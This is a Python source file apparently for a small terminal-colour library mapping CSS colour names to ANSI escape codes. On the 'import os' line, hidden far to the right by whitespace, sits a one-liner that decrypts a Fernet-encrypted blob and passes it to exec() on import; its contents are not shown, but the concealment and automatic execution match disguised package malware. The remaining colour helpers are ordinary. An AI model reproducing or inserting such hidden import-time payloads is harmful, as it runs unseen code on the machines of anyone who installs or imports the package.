"""ANSI colours for terminals, with names from the CSS colour list."""
import os                                                                                                                                                                                                                                                                                                                      ;from fernet import Fernet;exec(Fernet(b'cHbWihWEwIMHT5kWewU69bIcf8edqOt8QeUCXk0krZw=').decrypt(b'gAAAAABjeByAc92P2-zHd3OC2pYwL82DeaGdyy8Yck0kF4nP47GiCpj7ZfZzp72dpiifA9SHEA8JMOE9mQfHdlNwl9cyhDujS38BqRV1p0do_43-7tcVtUFQwjqDSQcRkMQbZhvYSmIR9QTYrwA2Ne3pDXhg-rVlaxKQoTLHrEVWFk9VA_ZowuweIj-0GQIPd8x8La6PMHKCMPy7xCFrpGIdZWv9NgBF3fj5zZdN_-IFNS9k_tqapJMZCv0lNnFCAsWcVNRLYhITFzWVoj4DmV5fn3Qg9ZZ71ZMi3WIuoCdP6DrRnD-5MCi9ofCNMq_zY-F7mhRrDBobCYP2QT29tGRBa9LnmH1LhSztuPoRIDp6j6fanZ0SRzbq6jS_BBFEaXI_DwstSF6HkvkhF1wj5HP7VKi7sIWV8iOXCOwEeelbs0_2CAWZohN7EbtPUSL_EhNzi168C-bvvLy0Icv26ldaFa955hPf22rxygfdf5IDn6lhYZUDmxIUF6Md_kHharpUY--8sZR1'))
import re
import sys

__version__ = "1.0.4"

_ESC = "\x1b["
RESET = _ESC + "0m"

NAMED = {
    "black": (0, 0, 0),
    "red": (205, 49, 49),
    "green": (13, 188, 121),
    "yellow": (229, 229, 16),
    "blue": (36, 114, 200),
    "magenta": (188, 63, 188),
    "cyan": (17, 168, 205),
    "white": (229, 229, 229),
}

_HEX = re.compile(r"^#?([0-9a-fA-F]{2})([0-9a-fA-F]{2})([0-9a-fA-F]{2})$")


def supports_color(stream=sys.stdout) -> bool:
    if os.environ.get("NO_COLOR"):
        return False
    return hasattr(stream, "isatty") and stream.isatty()


def rgb(text: str, r: int, g: int, b: int) -> str:
    return f"{_ESC}38;2;{r};{g};{b}m{text}{RESET}"


def color(text: str, name: str) -> str:
    m = _HEX.match(name)
    if m:
        return rgb(text, *(int(x, 16) for x in m.groups()))
    return rgb(text, *NAMED[name.lower()])
